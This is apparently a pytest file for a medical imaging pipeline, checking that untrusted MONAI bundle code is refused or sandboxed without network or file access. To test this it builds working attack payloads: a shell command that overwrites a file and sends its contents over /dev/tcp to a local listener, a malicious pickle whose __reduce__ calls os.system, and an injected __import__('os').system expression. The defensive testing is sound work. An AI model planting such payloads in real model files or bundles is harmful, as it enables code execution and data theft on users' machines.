"""A bundle's own code runs in a box: it reaches neither network nor files, and only arrays come out."""

from __future__ import annotations

import contextlib
import json
import os
import socket
import threading
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import torch

from dicom_sr.errors import UnsuitableInput
from pipelines.bundle import BundleError
from pipelines.monai_bundle import confined
from pipelines.monai_bundle.confined import ConfinedRunner, boxed, folders_of, in_box
from pipelines.monai_bundle.folder import BundleFolder
from pipelines.monai_bundle.in_box import IN_BOX
from pipelines.monai_bundle.pipeline_settings import MonaiBundleSettings
from tests.needs import need_a_box
from tests.pipelines.monai_bundle.configured import pipeline, settings, study_of
from tests.pipelines.monai_bundle.made_bundles import threshold_bundle
from tests.pipelines.monai_bundle.oblique_series import write_body
from tests.pipelines.monai_bundle.test_pipeline import dice, mask_of

SCRIPT = '''
"""An inferer of the bundle's own."""

class Inferer:
    def __call__(self, inputs, network):
        return network(inputs)
'''


def of_code(folder: Path, **parts: Any) -> Path:
    """A threshold bundle whose inferer is a script of its own."""
    made = threshold_bundle(folder, inferer={"_target_": "scripts.mine.Inferer"}, **parts)
    (made / "scripts").mkdir()
    (made / "scripts" / "__init__.py").touch()
    (made / "scripts" / "mine.py").write_text(SCRIPT)
    return made


def test_a_bundle_with_code_of_its_own_gives_what_it_computes(tmp_path: Path) -> None:
    need_a_box()
    paths, mask = write_body(tmp_path / "study")
    bundle = of_code(tmp_path / "bundle")
    with pytest.raises(BundleError, match=r"scripts\.mine\.Inferer is not on the list"):
        pipeline(settings(bundle)).load()
    result = pipeline(settings(bundle, trust="code")).run(study_of(paths))
    assert dice(mask_of(result), mask) > 0.97
    assert "The bundle ran its own code, in a box without network." in result.limits


class Listener:
    """A server on this machine that notes who connects."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port = self._socket.getsockname()[1]
        self.connected = threading.Event()
        threading.Thread(target=self._wait, daemon=True).start()

    def _wait(self) -> None:
        with contextlib.suppress(OSError):
            connection, _ = self._socket.accept()
            connection.close()
            self.connected.set()

    def close(self) -> None:
        self._socket.close()


def attack(mark: Path, port: int) -> str:
    """What malicious code does: touches a file, writes over one, and calls home."""
    return (
        f"touch {mark} /usr/was_here /tmp/was_here; echo changed > {mark.parent}/precious; "
        f"cat {mark.parent}/precious > /dev/tcp/127.0.0.1/{port}"
    )


class Malicious:
    """Attacks where it is unpickled."""

    def __init__(self, command: str) -> None:
        self._command = command

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (f'bash -c "{self._command}"',)


@pytest.mark.parametrize("way", ["expression", "pickle", "script"])
def test_malicious_code_is_refused_when_declarative_and_reaches_nothing_in_the_box(tmp_path: Path, way: str) -> None:
    need_a_box()
    listener = Listener()
    mark, precious = tmp_path / "was_here", tmp_path / "precious"
    precious.write_text("precious")
    command = attack(mark, listener.port)
    parts: dict[str, Any] = {}
    if way == "expression":
        parts["network_def"] = f"$[__import__('os').system('bash -c \"{command}\"'), None][1]"
    bundle = (
        of_code(tmp_path / "bundle", **parts) if way == "script" else threshold_bundle(tmp_path / "bundle", **parts)
    )
    if way == "pickle":
        torch.save({"model": Malicious(command)}, bundle / "models" / "model.pt")
    if way == "script":
        (bundle / "scripts" / "mine.py").write_text(
            f"import os\nos.system({f'bash -c {chr(34)}{command}{chr(34)}'!r})\n{SCRIPT}"
        )
    with pytest.raises(BundleError, match=r"not understood|holds more than tensors|not on the list"):
        pipeline(settings(bundle)).load()
    assert not mark.exists()

    paths, _ = write_body(tmp_path / "study")
    trusted = pipeline(settings(bundle, trust="code"))
    if way == "script":  # it attacks, and then does its work
        trusted.run(study_of(paths))
    else:
        with pytest.raises(UnsuitableInput, match="own code ended with exit code"):
            trusted.run(study_of(paths))
    assert not mark.exists()
    assert precious.read_text() == "precious"
    assert not Path("/usr/was_here").exists()
    assert not listener.connected.is_set()
    os.system(f'bash -c "{command}" 2> /dev/null')  # outside of a box it does all that
    assert mark.exists()
    assert precious.read_text() == "changed\n"
    assert listener.connected.wait(10)
    listener.close()
    for left in ("/usr/was_here", "/tmp/was_here"):
        Path(left).unlink(missing_ok=True)


def test_where_there_is_no_box_it_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    bundle = of_code(tmp_path)
    monkeypatch.setenv("PATH", str(tmp_path))
    with pytest.raises(
        BundleError, match=r"needs a box .* for bubblewrap \(bwrap\) is not installed; install Debian's"
    ):
        ConfinedRunner(BundleFolder(bundle), MonaiBundleSettings(**settings(bundle, trust="code")))


def test_a_worker_in_a_box_of_the_node_needs_no_other(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(IN_BOX, "1")
    assert in_box()
    monkeypatch.setattr(confined, "why_no_box", lambda: "there is none")
    paths, mask = write_body(tmp_path / "study")
    result = pipeline(settings(of_code(tmp_path / "bundle"), trust="code")).run(study_of(paths))
    assert dice(mask_of(result), mask) > 0.97


@pytest.mark.parametrize("content", [b"no array", b"", "object", "text"])
def test_what_is_no_array_of_numbers_is_not_taken(tmp_path: Path, content: object) -> None:
    path = tmp_path / "values.npy"
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        array = np.array(["a"]) if content == "text" else np.array([{}], dtype=object)
        np.save(path, array, allow_pickle=True)
    with pytest.raises(UnsuitableInput, match="left no values that can be read"):
        confined._array(path)


def test_the_box_holds_what_it_is_given_and_nothing_else(tmp_path: Path) -> None:
    words = boxed((tmp_path / "bundle",), tmp_path / "exchange")
    assert "--unshare-all" in words
    assert [words[i + 1] for i, word in enumerate(words) if word == "--bind"] == [str(tmp_path / "exchange")]
    assert str(tmp_path / "bundle") in words
    assert str(Path.home()) not in words


def test_an_interpreter_comes_with_its_environment_and_what_that_was_made_from(tmp_path: Path) -> None:
    (tmp_path / "venv" / "bin").mkdir(parents=True)
    (tmp_path / "venv" / "pyvenv.cfg").write_text(f"home = {tmp_path}/base/bin\nversion = 3.11\n")
    python = tmp_path / "venv" / "bin" / "python"
    (tmp_path / "base" / "bin").mkdir(parents=True)
    (tmp_path / "base" / "bin" / "python3").touch()
    python.symlink_to(tmp_path / "base" / "bin" / "python3")
    assert folders_of(python) == (tmp_path / "venv", tmp_path / "base")
    assert json.dumps([str(one) for one in folders_of(Path("/usr/bin/python3"))])
